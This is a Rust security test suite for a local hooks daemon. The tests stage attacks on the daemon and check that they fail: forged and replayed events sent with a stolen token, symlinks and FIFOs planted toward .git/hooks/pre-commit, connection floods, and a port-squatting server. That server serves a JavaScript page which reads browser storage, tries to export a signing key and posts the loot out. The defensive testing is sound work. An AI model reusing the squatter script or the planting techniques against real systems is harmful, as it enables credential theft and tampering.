//! The third pass of attacks on trust (docs/SECURITY.md): another user's folder, port or
//! race, and a repository's planted names. Each test runs the attack; those that need a
//! second local user run it as `nobody` when the suite runs as root (CI does) and say so
//! when it does not.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use hooks_testkit::wait_until;
use serde_json::Value;

use crate::http::{Served, call};
use crate::security::{cpu_seconds, recording_claude, seen};
use crate::support::*;

fn root_or_say(what: &str) -> bool {
    let root = hooks_platform::account::uid() == 0;
    if !root {
        eprintln!("not root: {what} is not run here (CI runs as root)");
    }
    root
}

fn chown_nobody(p: &Path) {
    std::os::unix::fs::chown(p, Some(65534), Some(65534)).unwrap();
}

/// A JSON store folder another user made first, with a queue of theirs in it (a follow-up
/// whose folder is theirs), is refused by every command: nothing of theirs is read, run or
/// written. A store folder of the user's own that others could enter is made private.
#[test]
fn a_store_folder_another_user_made_is_refused_and_runs_nothing_of_theirs() {
    if !root_or_say("a folder of another user") {
        return;
    }
    let mut app = App::fake();
    let runs = recording_claude(&mut app);
    app.ok(&["init"]);
    let theirs = app.env.dir.path().join("team-store");
    std::fs::create_dir_all(theirs.join("sessions")).unwrap();
    let their_proj = app.env.workdir("their-proj");
    // Their queue: post-task due long ago for a conversation of their folder.
    let mut file: Value =
        serde_json::from_slice(&std::fs::read(app.store_file()).unwrap()).unwrap();
    file["pending"] = serde_json::json!([{"hookId": "post-task", "sessionId": "s-theirs",
        "dueAt": "2020-01-01T00:00:00+0000", "retries": 0}]);
    std::fs::write(theirs.join("hooks.json"), file.to_string()).unwrap();
    std::fs::write(
        theirs.join("sessions/s-theirs.json"),
        serde_json::json!({"sessionId": "s-theirs", "cwd": their_proj}).to_string(),
    )
    .unwrap();
    for p in [
        theirs.clone(),
        theirs.join("sessions"),
        theirs.join("hooks.json"),
        theirs.join("sessions/s-theirs.json"),
        their_proj.clone(),
    ] {
        chown_nobody(&p);
    }
    std::fs::set_permissions(&theirs, std::fs::Permissions::from_mode(0o777)).unwrap();
    let app = app.on_store(&format!("json:{}", theirs.display()));
    for cmd in [&["pending"][..], &["tick"], &["hooks", "list"], &["init"]] {
        let o = app.run(cmd);
        assert_eq!(o.status.code(), Some(1), "{cmd:?}: {o:?}");
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(err.contains("belongs to user nobody"), "{cmd:?}: {err}");
    }
    assert!(
        seen(&runs, "s-theirs").is_none(),
        "their follow-up ran as the user"
    );
    assert_eq!(
        std::fs::metadata(&theirs).unwrap().permissions().mode() & 0o777,
        0o777,
        "another user's folder is not touched"
    );

    // The user's own store folder, left open to others: made private when used, and a
    // session file someone else put in it is not believed.
    let own = app.env.dir.path().join("own-store");
    std::fs::create_dir_all(own.join("sessions")).unwrap();
    std::fs::set_permissions(&own, std::fs::Permissions::from_mode(0o777)).unwrap();
    std::fs::set_permissions(own.join("sessions"), std::fs::Permissions::from_mode(0o777)).unwrap();
    let app = app.on_store(&format!("json:{}", own.display()));
    app.ok(&["init"]);
    for d in [&own, &own.join("sessions")] {
        assert_eq!(
            std::fs::metadata(d).unwrap().permissions().mode() & 0o777,
            0o700,
            "{}",
            d.display()
        );
    }
    let planted = own.join("sessions/s-planted.json");
    std::fs::write(
        &planted,
        serde_json::json!({"sessionId": "s-planted", "cwd": their_proj}).to_string(),
    )
    .unwrap();
    chown_nobody(&planted);
    let o = app.run(&["session", "s-planted"]);
    assert_ne!(o.status.code(), Some(0), "{o:?}");
    assert!(
        String::from_utf8_lossy(&o.stderr).contains("belongs to user nobody"),
        "{o:?}"
    );
}

/// Whatever a store says, a follow-up never runs in a folder another user owns: `claude`
/// started there would load that folder's own settings and hooks, with the user's
/// credentials.
#[test]
fn a_follow_up_never_runs_in_a_folder_another_user_owns() {
    if !root_or_say("a folder of another user") {
        return;
    }
    let mut app = App::fake();
    let runs = recording_claude(&mut app);
    app.ok(&["init"]);
    app.post_task_at_once();
    let their_proj = app.env.workdir("their-proj");
    chown_nobody(&their_proj);
    let t = app.transcript("s-their-folder", &their_proj, 1000);
    app.ok(&[
        "notify",
        "--session",
        "s-their-folder",
        "--cwd",
        their_proj.to_str().unwrap(),
        "--transcript",
        t.to_str().unwrap(),
    ]);
    app.ok(&["tick"]);
    assert!(
        seen(&runs, "s-their-folder").is_none(),
        "it ran in their folder"
    );
    let status = app.last_status("post-task");
    assert!(
        status.starts_with("skipped:") && status.contains("belongs to user nobody"),
        "{status}"
    );
}

/// The hook's token of a user who squatted the `http` hook's port: a failure event for a
/// conversation that never failed is refused, and one for a real failure, told again and
/// again, continues it once.
#[test]
fn forged_and_replayed_failure_events_continue_nothing_twice() {
    let app = App::fake();
    app.ok(&["init"]);
    app.ok(&["hooks", "enable", "continue-after-limit"]);
    app.ok(&["hooks", "update", "continue-after-limit", "--delay", "1"]);
    app.ok(&[
        "install",
        "--transport",
        "http",
        "--http-url",
        "http://127.0.0.1:9",
        "--daemon",
        "none",
    ]);
    let stolen = std::fs::read_to_string(app.data_dir().join("hook.token"))
        .unwrap()
        .trim()
        .to_owned();
    let d = Served::start(&app, &[], &[]);
    let bearer = format!("Bearer {stolen}");
    let failure = |sid: &str, t: &Path| {
        serde_json::json!({"hook_event_name": "StopFailure", "session_id": sid, "cwd": app.proj,
            "transcript_path": t, "error": "rate_limit",
            "last_assistant_message": "API Error: Request rejected (429) · rate limited"})
        .to_string()
    };
    let post = |body: &str| {
        call(
            d.addr,
            "POST",
            "/api/v1/events",
            &[("Authorization", &bearer)],
            Some(body),
        )
    };
    // A conversation that ended well: no failure to continue.
    let fine = app.transcript("s-fine", &app.proj, 1000);
    let r = post(&failure("s-fine", &fine));
    assert_eq!(r.status, 400, "{}", r.body);
    assert!(r.body.contains("ends in the failed turn"), "{}", r.body);
    assert!(app.pending().is_empty(), "{:?}", app.pending());

    // A real failure: its transcript ends in Claude Code's API error line.
    let failed = app.transcript("s-failed", &app.proj, 1000);
    let error_line = serde_json::json!({"type": "assistant", "cwd": app.proj, "sessionId": "s-failed",
        "timestamp": "2026-12-05T10:00:00.000Z", "isApiErrorMessage": true, "error": "rate_limit",
        "apiErrorStatus": 429, "message": {"id": "e1", "model": "<synthetic>",
        "content": [{"type": "text", "text": "API Error: Request rejected (429)"}]}});
    let mut text = std::fs::read_to_string(&failed).unwrap();
    text.push_str(&format!("{error_line}\n"));
    std::fs::write(&failed, text).unwrap();
    let r = post(&failure("s-failed", &failed));
    assert_eq!(r.status, 200, "{}", r.body);
    let continued = || {
        app.runs()
            .iter()
            .filter(|r| r["sessionId"] == "s-failed" && r["status"] == "ok")
            .count()
    };
    assert!(
        wait_until(60, || continued() == 1),
        "the true failure is continued: {:?}",
        app.runs()
    );
    // The same failure told again (the conversation still ends in it): nothing more runs.
    for _ in 0..5 {
        let r = post(&failure("s-failed", &failed));
        assert_eq!(r.status, 200, "{}", r.body);
    }
    app.ok(&["tick"]);
    assert!(app.pending().is_empty(), "{:?}", app.pending());
    assert_eq!(continued(), 1, "{:?}", app.runs());
    d.stop();
}

/// Stop events with the hook's token that name a long transcript of the user's, claiming a
/// reply it does not hold, cost the daemon one read each, not a read every 25 ms for 3 s.
#[test]
fn bogus_stop_events_cost_the_daemon_one_read_each() {
    let app = App::fake();
    app.ok(&["init"]);
    app.ok(&[
        "install",
        "--transport",
        "http",
        "--http-url",
        "http://127.0.0.1:9",
        "--daemon",
        "none",
    ]);
    let stolen = std::fs::read_to_string(app.data_dir().join("hook.token"))
        .unwrap()
        .trim()
        .to_owned();
    // A long conversation: 8 MiB of replies before its last one.
    let t = app.transcript("s-long", &app.proj, 1000);
    let filler = serde_json::json!({"type": "user", "message": {"role": "user",
        "content": "x".repeat(64 * 1024)}})
    .to_string();
    let mut text = String::new();
    for _ in 0..128 {
        text.push_str(&filler);
        text.push('\n');
    }
    text.push_str(&std::fs::read_to_string(&t).unwrap());
    std::fs::write(&t, text).unwrap();
    let d = Served::start(&app, &[], &[]);
    let before = cpu_seconds(d.child.id());
    let bearer = format!("Bearer {stolen}");
    let threads: Vec<_> = (0..8)
        .map(|i| {
            let (addr, bearer, t, proj) = (d.addr, bearer.clone(), t.clone(), app.proj.clone());
            std::thread::spawn(move || {
                for j in 0..3 {
                    let body =
                        serde_json::json!({"hook_event_name": "Stop", "session_id": "s-long",
                        "cwd": proj, "transcript_path": t,
                        "last_assistant_message": format!("not what it said {i} {j}\nDONE")})
                        .to_string();
                    let r = call(
                        addr,
                        "POST",
                        "/api/v1/events",
                        &[("Authorization", &bearer)],
                        Some(&body),
                    );
                    assert_eq!(r.status, 200, "{}", r.body);
                }
            })
        })
        .collect();
    for t in threads {
        t.join().unwrap();
    }
    let spent = cpu_seconds(d.child.id()) - before;
    // 24 events: one read of 8 MiB each is well under a second of CPU; a read every 25 ms
    // for 3 s each was 120 reads an event.
    assert!(
        spent < 4.0,
        "24 bogus events cost the daemon {spent:.2} CPU-seconds"
    );
    d.stop();
}

/// `install` rewrites a private settings file (it may hold an API key in its `env`)
/// without ever making a copy others can read: each file created in the folder while it
/// works is private from its first moment. Watched with inotify as another user would.
#[test]
fn install_and_uninstall_never_leave_a_private_settings_file_readable() {
    let app = App::fake();
    app.ok(&["init"]);
    let home = app.env.claude_home();
    std::fs::create_dir_all(&home).unwrap();
    std::fs::set_permissions(&home, std::fs::Permissions::from_mode(0o755)).unwrap();
    let settings = home.join("settings.json");
    std::fs::write(&settings, r#"{"env": {"ANTHROPIC_API_KEY": "sk-secret"}}"#).unwrap();
    std::fs::set_permissions(&settings, std::fs::Permissions::from_mode(0o600)).unwrap();
    let seen = std::sync::Arc::new(std::sync::Mutex::new(Vec::<(String, u32)>::new()));
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let watcher = {
        let (seen, stop, home) = (seen.clone(), stop.clone(), home.clone());
        std::thread::spawn(move || watch_created(&home, &seen, &stop))
    };
    for _ in 0..15 {
        app.ok(&["install", "--daemon", "none"]);
        app.ok(&["uninstall"]);
    }
    stop.store(true, std::sync::atomic::Ordering::SeqCst);
    // Wake the watcher with one more event of its folder.
    std::fs::write(home.join(".wake"), "").unwrap();
    watcher.join().unwrap();
    let seen = seen.lock().unwrap();
    assert!(!seen.is_empty(), "the watcher saw install's files");
    let loose: Vec<_> = seen
        .iter()
        .filter(|(n, m)| n != ".wake" && m & 0o077 != 0)
        .collect();
    assert!(
        loose.is_empty(),
        "readable by others while written: {loose:?}"
    );
    assert_eq!(
        std::fs::metadata(&settings).unwrap().permissions().mode() & 0o777,
        0o600
    );
}

/// Every file created in `dir` until `stop`, with its mode as soon as it was seen.
fn watch_created(
    dir: &Path,
    seen: &std::sync::Mutex<Vec<(String, u32)>>,
    stop: &std::sync::atomic::AtomicBool,
) {
    use std::os::unix::ffi::OsStrExt;
    // SAFETY: plain inotify calls on a descriptor this function owns and closes.
    let fd = unsafe { libc::inotify_init1(0) };
    assert!(fd >= 0);
    let path = std::ffi::CString::new(dir.as_os_str().as_bytes()).unwrap();
    let wd = unsafe { libc::inotify_add_watch(fd, path.as_ptr(), libc::IN_CREATE) };
    assert!(wd >= 0);
    let mut buf = vec![0u8; 64 * 1024];
    while !stop.load(std::sync::atomic::Ordering::SeqCst) {
        let n = unsafe { libc::read(fd, buf.as_mut_ptr().cast(), buf.len()) };
        if n <= 0 {
            break;
        }
        let mut off = 0usize;
        while off + std::mem::size_of::<libc::inotify_event>() <= n as usize {
            // SAFETY: the kernel wrote whole events into `buf`.
            let ev = unsafe { &*(buf.as_ptr().add(off) as *const libc::inotify_event) };
            let name_start = off + std::mem::size_of::<libc::inotify_event>();
            let name = &buf[name_start..name_start + ev.len as usize];
            let name =
                String::from_utf8_lossy(name.split(|b| *b == 0).next().unwrap_or(&[])).into_owned();
            if let Ok(m) = std::fs::symlink_metadata(dir.join(&name)) {
                seen.lock()
                    .unwrap()
                    .push((name, m.permissions().mode() & 0o7777));
            }
            off = name_start + ev.len as usize;
        }
    }
    unsafe { libc::close(fd) };
}

/// A hostile clone ships links at every name `install --scope local` might write its
/// temporary file under (one per possible pid, pointing at `.git/hooks/pre-commit`), and
/// FIFOs beside them: `install` follows none of them, creates nothing through them, and
/// does not hang.
#[test]
fn install_into_a_hostile_clone_writes_through_no_planted_link() {
    let app = App::fake();
    app.ok(&["init"]);
    let claude_dir = app.proj.join(".claude");
    let hooks_dir = app.proj.join(".git/hooks");
    std::fs::create_dir_all(&claude_dir).unwrap();
    std::fs::create_dir_all(&hooks_dir).unwrap();
    let target = hooks_dir.join("pre-commit");
    let last: u32 = std::fs::read_to_string("/proc/sys/kernel/ns_last_pid")
        .ok()
        .and_then(|s| s.trim().parse().ok())
        .unwrap_or(1);
    for pid in last..last + 3000 {
        for name in ["settings.local.json", "settings.json"] {
            let _ = std::os::unix::fs::symlink(
                &target,
                claude_dir.join(format!(".{name}.hooks-app.{pid}")),
            );
        }
        let fifo = claude_dir.join(format!(".settings.local.json.{pid}"));
        crate::security::mkfifo(&fifo);
    }
    app.ok(&["install", "--scope", "local", "--daemon", "none"]);
    assert!(!target.exists(), "install wrote through a planted link");
    let local = claude_dir.join("settings.local.json");
    let meta = std::fs::symlink_metadata(&local).unwrap();
    assert!(meta.file_type().is_file(), "{meta:?}");
    let v: Value = serde_json::from_slice(&std::fs::read(&local).unwrap()).unwrap();
    assert!(v["hooks"]["Stop"].is_array(), "{v}");
}

/// 300 kept-alive connections that each asked for `/api/v1/healthz` (no token needed) hold
/// no place against the token holder: they are anonymous, and make room as silent ones do.
#[test]
fn kept_alive_health_checks_do_not_keep_the_token_holder_out() {
    use std::io::{Read, Write};
    crate::security::allow_own_files(4096);
    let app = App::fake();
    app.ok(&["init"]);
    let d = Served::start(&app, &[], &[]);
    let addr = d.addr;
    let ask = format!("GET /api/v1/healthz HTTP/1.1\r\nHost: {addr}\r\n\r\n");
    let open = || {
        let mut s = std::net::TcpStream::connect(addr).ok()?;
        s.set_read_timeout(Some(std::time::Duration::from_secs(10)))
            .ok()?;
        s.write_all(ask.as_bytes()).ok()?;
        let mut buf = [0u8; 4096];
        let n = s.read(&mut buf).ok()?;
        (n > 0).then_some(s)
    };
    let mut socks: Vec<_> = (0..300).filter_map(|_| open()).collect();
    assert!(
        socks.len() > 250,
        "the flood holds its places: {}",
        socks.len()
    );
    let mut answered = 0;
    for _ in 0..20 {
        let r = call(
            d.addr,
            "GET",
            "/api/v1/hooks",
            &[("Authorization", &d.auth())],
            None,
        );
        if r.status == 200 {
            answered += 1;
        }
        // The flood takes its places back at once.
        for s in socks.iter_mut() {
            let mut probe = [0u8; 1];
            s.set_nonblocking(true).unwrap();
            if matches!(s.read(&mut probe), Ok(0))
                && let Some(n) = open()
            {
                *s = n;
            }
            let _ = s.set_nonblocking(false);
        }
    }
    assert_eq!(answered, 20, "the token holder is answered under the flood");
    d.stop();
}

/// A backend that answers `requeued: …` is not believed: nothing went back to the queue, so
/// the run log says what the backend answered, as an error.
#[test]
fn a_backend_saying_requeued_is_recorded_as_its_error() {
    use hooks_testkit::http::{answer, serve_once};
    let app = App::fake();
    app.ok(&["init"]);
    app.post_task_at_once();
    let (url, _seen) = serve_once(answer(
        "200 OK",
        r#"{"status": "requeued: rate limited, back in the queue"}"#,
    ));
    let t = app.transcript("wh-rq", &app.proj, 1000);
    app.ok(&[
        "notify",
        "--session",
        "wh-rq",
        "--cwd",
        app.proj.to_str().unwrap(),
        "--transcript",
        t.to_str().unwrap(),
    ]);
    app.ok(&[
        "--runner",
        "webhook",
        "--runner-url",
        url.as_str(),
        "tick",
        "--quiet-period",
        "0",
    ]);
    let runs = app.runs();
    let run = runs.iter().find(|r| r["sessionId"] == "wh-rq").unwrap();
    let status = run["status"].as_str().unwrap();
    assert!(
        status.starts_with("error: webhook: the answer's status must be"),
        "{status}"
    );
    assert!(app.pending().is_empty(), "{:?}", app.pending());
}

/// `install --runner webhook` with a URL that carries a key writes the key into no settings
/// file and onto no command line: the URL is kept in the private data folder and named as
/// `@FILE`; the daemon started from the hook reads it from there.
#[test]
fn a_webhook_url_with_a_key_is_on_no_command_line_and_in_no_settings_file() {
    let app = App::fake();
    app.ok(&["init"]);
    let url = "http://user:pa55word@127.0.0.1:9/runs?key=s3cr3t-k3y";
    app.ok(&[
        "--runner",
        "webhook",
        "--runner-url",
        url,
        "install",
        "--daemon",
        "none",
    ]);
    let settings = std::fs::read_to_string(app.env.claude_home().join("settings.json")).unwrap();
    for secret in ["pa55word", "s3cr3t-k3y"] {
        assert!(!settings.contains(secret), "{settings}");
    }
    let kept = app.data_dir().join("runner-url");
    assert_eq!(std::fs::read_to_string(&kept).unwrap().trim(), url);
    assert_eq!(
        std::fs::metadata(&kept).unwrap().permissions().mode() & 0o777,
        0o600
    );
    let v: Value = serde_json::from_str(&settings).unwrap();
    let cmd = v["hooks"]["Stop"][0]["hooks"][0]["command"]
        .as_str()
        .unwrap();
    assert!(
        cmd.contains(&format!("--runner-url @{}", kept.display())),
        "{cmd}"
    );
    // What that command line makes of it: the URL, read from the file.
    let doctor = String::from_utf8(
        app.run(&[
            "--runner",
            "webhook",
            "--runner-url",
            &format!("@{}", kept.display()),
            "doctor",
        ])
        .stdout,
    )
    .unwrap();
    assert!(
        doctor.contains("runner             webhook http://"),
        "{doctor}"
    );
}

/// Codex cannot stop a run at a cost: a Codex hook with a cost cap is refused when it is
/// made or changed, naming the field, rather than run uncapped.
#[test]
fn a_cost_cap_codex_cannot_hold_is_refused_not_dropped() {
    let app = App::fake();
    app.ok(&["init"]);
    let o = app.run(&[
        "hooks",
        "create",
        "capped",
        "--prompt-file",
        ".claude/agents/hooks/post-task.md",
        "--agent",
        "codex",
        "--max-cost-usd",
        "0.05",
    ]);
    assert_eq!(o.status.code(), Some(2), "{o:?}");
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(
        err.contains("maxCostUsd") && err.contains("Codex cannot stop a run at a cost"),
        "{err}"
    );
    assert!(app.run(&["hooks", "show", "capped"]).status.code() != Some(0));
    app.ok(&["hooks", "update", "post-task", "--agent", "codex"]);
    let o = app.run(&["hooks", "update", "post-task", "--max-cost-usd", "0.05"]);
    assert_eq!(o.status.code(), Some(2), "{o:?}");
    assert!(app.hook("post-task")["maxCostUsd"].is_null());
}

/// What the squatter's own page does on the page's origin: reads what the browser keeps
/// there, tries to take the page's key out, has the browser sign a nonce of its own, and
/// sends all of it home.
const SQUATTER_PAGE: &str = r#"<!doctype html><title>squatter</title><script>
(async () => {
  const hex = (b) => Array.from(new Uint8Array(b), (x) => ('0' + x.toString(16)).slice(-2)).join('');
  const out = { stored: Object.keys(localStorage).map((k) => k + '=' + localStorage.getItem(k)) };
  const rec = await new Promise((ok, no) => {
    const q = indexedDB.open('hooks-app', 1);
    q.onupgradeneeded = () => q.result.createObjectStore('login');
    q.onerror = () => no(q.error);
    q.onsuccess = () => {
      const g = q.result.transaction('login', 'readonly').objectStore('login').get('page');
      g.onsuccess = () => ok(g.result);
      g.onerror = () => no(g.error);
    };
  });
  out.id = rec && rec.id;
  out.daemon = rec && rec.daemon;
  try { out.exported = hex(await crypto.subtle.exportKey('pkcs8', rec.key)); }
  catch (e) { out.exportError = String(e); }
  out.nonce = 'ab'.repeat(32);
  out.sig = hex(await crypto.subtle.sign({ name: 'ECDSA', hash: 'SHA-256' }, rec.key,
    new TextEncoder().encode('hooks-app page request\n' + rec.id + '\n' + out.nonce)));
  await fetch('/loot', { method: 'POST', body: JSON.stringify(out) });
  document.title = 'looted';
})().catch((e) => { document.title = 'loot failed: ' + e; });
</script>"#;

/// Another user's server on the page's own port while the daemon is down: every request
/// (head and body) is kept. It answers the page's challenge with a proof it cannot make,
/// serves its own page at `/`, and takes what that page sends to `/loot`.
fn squat(
    listener: std::net::TcpListener,
    stop: std::sync::Arc<std::sync::atomic::AtomicBool>,
) -> std::thread::JoinHandle<Vec<(String, String)>> {
    use std::io::{Read, Write};
    listener.set_nonblocking(true).unwrap();
    std::thread::spawn(move || {
        let mut seen = Vec::new();
        let deadline = std::time::Instant::now() + std::time::Duration::from_secs(300);
        while !stop.load(std::sync::atomic::Ordering::SeqCst)
            && std::time::Instant::now() < deadline
        {
            let mut c = match listener.accept() {
                Ok((c, _)) => c,
                // Nothing to accept yet: the loop is bounded by its deadline and the flag.
                Err(_) => {
                    std::thread::sleep(std::time::Duration::from_millis(20));
                    continue;
                }
            };
            c.set_nonblocking(false).unwrap();
            c.set_read_timeout(Some(std::time::Duration::from_secs(5)))
                .unwrap();
            let mut got = Vec::new();
            let mut buf = [0u8; 8192];
            let head_end = loop {
                if let Some(i) = got.windows(4).position(|w| w == b"\r\n\r\n") {
                    break Some(i + 4);
                }
                match c.read(&mut buf) {
                    Ok(0) | Err(_) => break None,
                    Ok(n) => got.extend_from_slice(&buf[..n]),
                }
            };
            let Some(head_end) = head_end else { continue };
            let head = String::from_utf8_lossy(&got[..head_end]).into_owned();
            let len: usize = head
                .lines()
                .find_map(|l| {
                    let (k, v) = l.split_once(':')?;
                    k.eq_ignore_ascii_case("content-length")
                        .then(|| v.trim().parse().ok())?
                })
                .unwrap_or(0);
            while got.len() < head_end + len {
                match c.read(&mut buf) {
                    Ok(0) | Err(_) => break,
                    Ok(n) => got.extend_from_slice(&buf[..n]),
                }
            }
            let body = String::from_utf8_lossy(&got[head_end..]).into_owned();
            let path = head.split(' ').nth(1).unwrap_or("").to_owned();
            let (status, kind, answer) = if path.starts_with("/page/challenge") {
                let forged =
                    serde_json::json!({"nonce": "cd".repeat(32), "proof": "00".repeat(64)});
                ("200 OK", "application/json", forged.to_string())
            } else if path == "/" {
                ("200 OK", "text/html", SQUATTER_PAGE.to_owned())
            } else if path == "/loot" {
                ("200 OK", "text/plain", String::new())
            } else {
                ("404 Not Found", "text/plain", String::new())
            };
            let _ = c.write_all(
                format!(
                    "HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {}\r\nCache-Control: no-store\r\nConnection: close\r\n\r\n{answer}",
                    answer.len()
                )
                .as_bytes(),
            );
            seen.push((head, body));
        }
        seen
    })
}

/// Another user binds the page's port while the daemon is down. The open tab's poll asks
/// it to prove it is the daemon, gets a proof it cannot make, sends nothing and stops; the
/// squatter's own page, run on the page's origin when the person opens the address, finds
/// no session in `localStorage`, cannot take the page's key out, and what it has the
/// browser sign is refused by the daemon once it is back. The person's tab then works again.
#[test]
fn a_server_squatting_the_pages_port_is_sent_nothing_it_can_use() {
    use std::io::{BufRead, BufReader, Write};
    let app = App::fake();
    app.ok(&["init"]);
    let d = Served::start(&app, &[], &[]);
    let addr = d.addr;
    let login = app.ok(&["open", "--no-browser"]).trim().to_owned();
    let script = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../tests/e2e/browser/squatter.cjs");
    let mut node = hooks_testkit::browser::node(&script)
        .env("LOGIN_URL", &login)
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .expect("node");
    let mut to_node = node.stdin.take().unwrap();
    let mut lines = BufReader::new(node.stdout.take().unwrap()).lines();
    let mut next = || -> Value {
        let l = lines.next().expect("a step").expect("read");
        let v: Value = serde_json::from_str(&l).unwrap_or_else(|e| panic!("{e}: {l}"));
        assert_ne!(v["step"], "failed", "{v}");
        v
    };
    assert_eq!(next()["step"], "logged in");
    d.stop();
    let stop = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let squatter = squat(std::net::TcpListener::bind(addr).unwrap(), stop.clone());
    writeln!(to_node, "squatted").unwrap();
    let untrusted = next();
    assert_eq!(untrusted["step"], "untrusted", "{untrusted}");
    assert_eq!(
        untrusted["poll"],
        Value::Null,
        "the poll stopped: {untrusted}"
    );
    assert!(
        untrusted["text"]
            .as_str()
            .unwrap()
            .contains("could not prove"),
        "{untrusted}"
    );
    let looted = next();
    assert_eq!(looted["title"], "looted", "{looted}");
    stop.store(true, std::sync::atomic::Ordering::SeqCst);
    let seen = squatter.join().unwrap();

    assert!(
        seen.iter()
            .any(|(h, _)| h.starts_with("GET /page/challenge")),
        "the tab asked the squatter to prove itself: {seen:?}"
    );
    for (head, _) in &seen {
        assert!(
            !head.to_ascii_lowercase().contains("\r\nauthorization:")
                && !head.to_ascii_lowercase().contains("\r\ncookie:"),
            "the browser sent the squatter a credential:\n{head}"
        );
    }
    let loot: Value = serde_json::from_str(
        &seen
            .iter()
            .find(|(h, _)| h.starts_with("POST /loot"))
            .expect("the squatter's page sent its loot")
            .1,
    )
    .unwrap();
    assert_eq!(loot["stored"], serde_json::json!([]), "{loot}");
    assert!(
        loot["exported"].is_null() && loot["exportError"].is_string(),
        "the page's key cannot be taken out: {loot}"
    );
    let id = loot["id"]
        .as_str()
        .expect("the session id is on the origin");

    // The daemon is back on its port: nothing the squatter took gets in.
    let d = Served::start_at(&app, &addr.to_string(), &[], &[]);
    assert_eq!(d.addr, addr);
    for taken in [
        format!(
            "Page {id} {} {}",
            loot["nonce"].as_str().unwrap(),
            loot["sig"].as_str().unwrap()
        ),
        format!("Page {id}"),
        format!("Bearer {id}"),
    ] {
        let r = call(
            addr,
            "GET",
            "/api/v1/hooks",
            &[("Authorization", &taken)],
            None,
        );
        assert_eq!(r.status, 401, "{taken}: {r:?}");
        let r = call(addr, "GET", "/", &[("Authorization", &taken)], None);
        assert_eq!(r.status, 401, "{taken}: {r:?}");
    }
    writeln!(to_node, "back").unwrap();
    assert_eq!(next()["step"], "back", "the person's own tab works again");
    drop(to_node);
    let out = node.wait_with_output().unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    d.stop();
}
